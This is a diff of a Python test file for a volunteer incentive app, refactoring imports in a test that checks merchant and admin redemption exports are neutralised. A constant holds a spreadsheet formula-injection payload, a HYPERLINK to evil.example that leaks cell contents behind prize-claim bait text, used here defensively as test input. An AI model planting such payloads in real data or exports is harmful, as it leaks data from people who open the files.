@@ -8,9 +8,13 @@ from zoneinfo import ZoneInfo
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from app.services import incentives, ledger, spreadsheets
+from app.services import ledger, spreadsheets
 from app.services.bulletins.quarters import save_quarter_comment
 from app.services.bulletins.snapshots import list_bulletins
+from app.services.incentives.counter import redeem
+from app.services.incentives.coupons import claim_coupon
+from app.services.incentives.merchants import create_merchant, create_merchant_account
+from app.services.incentives.offers import OfferInput, create_offer
 from tests import factories as f
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
@@ -49,16 +53,16 @@ def test_values_a_spreadsheet_would_run_are_prefixed(value):
 
 def test_redemption_exports_of_merchant_and_admin_are_neutralised(client, db):
     admin = f.platform_admin("boss")
-    merchant = incentives.create_merchant(name="-城东便利店", address="人民路1号", by=admin, approved=True)
-    shop = incentives.create_merchant_account(merchant, username="shopkeeper", password=f.PASSWORD,
+    merchant = create_merchant(name="-城东便利店", address="人民路1号", by=admin, approved=True)
+    shop = create_merchant_account(merchant, username="shopkeeper", password=f.PASSWORD,
                                               name="店长", by=admin)
-    offer = incentives.create_offer(merchant, incentives.OfferInput(title=EVIL, min_star=1), by=admin)
+    offer = create_offer(merchant, OfferInput(title=EVIL, min_star=1), by=admin)
     db.session.commit()
     volunteer = f.volunteer()
     f.give_hours(volunteer, 100)
-    coupon = incentives.claim_coupon(volunteer, offer)
+    coupon = claim_coupon(volunteer, offer)
     db.session.commit()
-    incentives.redeem(coupon.id, merchant, by=shop)
+    redeem(coupon.id, merchant, by=shop)
     db.session.commit()
 
     f.login(client, shop)
